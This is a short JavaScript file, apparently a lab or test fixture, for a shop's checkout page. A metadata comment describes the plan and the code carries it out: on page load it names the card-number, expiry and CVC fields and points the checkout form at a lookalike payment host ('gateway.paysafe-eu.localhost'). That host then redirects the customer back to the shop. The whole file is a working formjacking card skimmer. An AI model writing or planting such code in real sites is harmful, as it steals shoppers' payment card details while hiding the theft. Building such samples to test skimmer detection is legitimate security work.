/* meta
{
  "design": "Names the card fields and points the checkout form at another host, which passes the customer on to the shop.",
  "reads": ["cc-number", "cc-exp", "cc-csc"],
  "sendsTo": "gateway.paysafe-eu.localhost",
  "delivery": { "kind": "inline", "pages": "^/checkout" },
  "alone": true,
  "policy": { "form-action": ["https://gateway.paysafe-eu.localhost"] },
  "serves": [{ "path": "/order", "redirect": "https://larchandloom.localhost/checkout" }]
}
*/
window.addEventListener('load', function () {
  var form = document.getElementById('checkout-form');
  if (!form) return;
  ['cc-number', 'cc-exp', 'cc-csc'].forEach(function (id) {
    document.getElementById(id).setAttribute('name', id);
  });
  form.setAttribute('action', 'https://gateway.paysafe-eu.localhost/order');
});
